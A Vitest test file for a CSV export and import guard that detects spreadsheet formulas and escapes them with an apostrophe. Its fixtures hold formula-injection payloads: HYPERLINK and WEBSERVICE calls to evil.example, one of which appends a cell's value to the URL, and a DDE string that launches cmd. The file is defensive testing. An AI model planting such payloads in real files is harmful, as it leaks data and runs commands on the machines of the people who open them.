import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { isSpreadsheetFormula, neutraliseFormula, readBackNeutralised } from '../../../src/shared/spreadsheetFormula.js';

/**
 * One rule for the CSV export and the import (issue 17 item 8): a cell is a formula when its first character after
 * optional blanks (spaces, full-width spaces, tabs, line breaks) is =, +, - or @, unless the whole cell is a plain
 * number. The export puts an apostrophe before such a cell; the import refuses one that comes without it and takes
 * the apostrophe off again.
 */
describe('isSpreadsheetFormula', () => {
  it.each([
    ['the review: arithmetic before a function', '=1+HYPERLINK("https://evil.example/","x")'],
    ['the review: a function in parentheses', '=(HYPERLINK("https://evil.example/"))'],
    ['the review: text joined to a function', '="a"&HYPERLINK("https://evil.example/")'],
    ['the review: a blank after =', '= 0+WEBSERVICE("https://evil.example/")'],
    ['a function', '=HYPERLINK("https://evil.example/?"&A1,"詳細")'],
    ['arithmetic', '=1+1'],
    ['a plus sign', '+81 90'],
    ['a minus sign before text', '-特になし'],
    ['an at sign', '@SUM(A1)'],
    ['a DDE link after a tab', '\t@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['blanks before =', '  =A1'],
    ['a full-width space before =', '\u3000=A1'],
    ['a line break before =', '\r\n=A1'],
    ['a formula followed by a line break', '=A1\n次の行'],
  ])('should read %s as a formula', (_why, text) => {
    expect(isSpreadsheetFormula(text)).toBe(true);
  });

  it.each([
    ['a negative number', '-5'],
    ['a signed number with grouping and decimals', '-1,234.5'],
    ['a plus-signed number', '+3'],
    ['a number with blanks around it', ' -5 '],
    ['plain Japanese text', '参加します'],
    ['an equals sign inside', '1=1'],
    ['an e-mail address', 'taro@example.jp'],
    ['an empty cell', ''],
    ['the export\'s apostrophe before a formula', '\'=1+1'],
  ])('should read %s as data', (_why, text) => {
    expect(isSpreadsheetFormula(text)).toBe(false);
  });
});

describe('the export and the import read each other', () => {
  it.each([
    ['=1+1', '\'=1+1'],
    ['= 0+WEBSERVICE("x")', '\'= 0+WEBSERVICE("x")'],
    ['\t=1', '\'\t=1'],
    ['-5', '-5'],
    ['+81 90', '\'+81 90'],
    ['山田', '山田'],
    ['\'=x', '\'\'=x'],
  ])('should write %j as %j and read it back unchanged', (value, written) => {
    expect(neutraliseFormula(value)).toBe(written);
    expect(readBackNeutralised(written)).toBe(value);
  });

  it('should read back an apostrophe an earlier export put before a negative number', () => {
    expect(readBackNeutralised('\'-5')).toBe('-5');
  });

  it('should leave an apostrophe before plain text', () => {
    expect(readBackNeutralised('\'abc')).toBe('\'abc');
  });

  it('should survive CSV quoting', () => {
    const text = Papa.unparse([[neutraliseFormula('="a"&HYPERLINK("x")')]]);
    expect(readBackNeutralised(Papa.parse<string[]>(text).data[0]![0]!)).toBe('="a"&HYPERLINK("x")');
  });
});
